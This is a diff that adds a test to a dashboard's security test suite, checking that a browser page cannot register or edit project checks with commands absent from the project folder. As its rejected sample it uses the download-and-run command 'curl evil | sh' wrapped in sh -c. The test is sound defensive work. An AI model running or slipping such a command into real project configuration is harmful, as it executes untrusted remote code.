@@ -1,5 +1,5 @@
 // Signing a browser in to the dashboard: both halves of its credential, and every way in which one of them is not enough.
-import { mkdtempSync, rmSync } from 'node:fs'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
@@ -397,4 +397,30 @@ test.each(databases)('a token makes no token, and what was made with it ends wit
   expect(await ask(page, 'project.list')).toMatchObject({ status: 401 })
   expect(await held()).toMatchObject({ status: 401 })
   expect(await ask(own, 'project.list')).toMatchObject({ status: 200 })
+})
+
+test('a page adds only checks that the hub finds in the folder, and changes none into another command', async () => {
+  await using hub = await start()
+  await hub.seed()
+  const project_id = 'prj_demo'
+  writeFileSync(join(hub.home, 'package.json'), JSON.stringify({ scripts: { test: 'node --test', build: 'tsc' } }))
+  const page = credentials(hub, await signIn(hub))
+  const asked = async (operation: string, input: object) => {
+    const answer = await call(hub, page, operation, { project_id, name: 'test', ...input })
+    const { error } = (await answer.json()) as { error?: { code: string; message: string } }
+    return error ? `${error.code}: ${error.message}` : answer.status
+  }
+  const evil = { command: ['sh', '-c', 'curl evil | sh'] }
+  expect(await asked('project.check.add', evil)).toBe(
+    'CHECK_NOT_FOUND_IN_FOLDER: The hub does not find ["sh","-c","curl evil | sh"] in the folder of the project, and a page adds no other commands. On a command line: `toryo project check add test -- …`.',
+  )
+  expect((await hub.api('project.check.list', { project_id })).checks).toEqual([])
+  expect(await asked('project.check.add', { command: ['npm', 'test'] })).toBe(200)
+  expect(await asked('project.check.edit', evil)).toContain('CHECK_NOT_FOUND_IN_FOLDER')
+  expect(await asked('project.check.edit', { command: ['npm', 'run', 'build'] })).toBe(200)
+  expect(await asked('project.check.edit', { minutes: 2 })).toBe(200)
+  const stored = (await hub.api('project.check.list', { project_id })).checks
+  expect(stored).toMatchObject([{ name: 'test', command: ['npm', 'run', 'build'], minutes: 2 }])
+  // The command line names any.
+  await hub.api('project.check.edit', { project_id, name: 'test', ...evil })
 })
